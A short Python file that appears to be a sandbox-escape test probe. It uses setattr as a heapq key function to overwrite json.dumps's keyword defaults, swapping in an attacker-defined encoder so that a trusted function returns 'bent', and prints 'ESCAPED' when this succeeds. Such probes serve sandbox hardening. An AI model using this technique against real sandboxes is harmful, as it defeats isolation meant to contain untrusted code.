# technique: setattr as the key function of heapq: it assigns to a trusted function
# goal: bend
# source: own analysis: attacker's C callables below a trusted frame
import functools
import heapq
import json


class Ours(json.JSONEncoder):
    def default(self, thing):
        return 'bent'


heapq.nsmallest(1, [dict(json.dumps.__kwdefaults__, cls=Ours)],
                key=functools.partial(setattr, json.dumps, '__kwdefaults__'))
if json.dumps({1}) == '"bent"':
    print('ESCAPED trusted function bent')
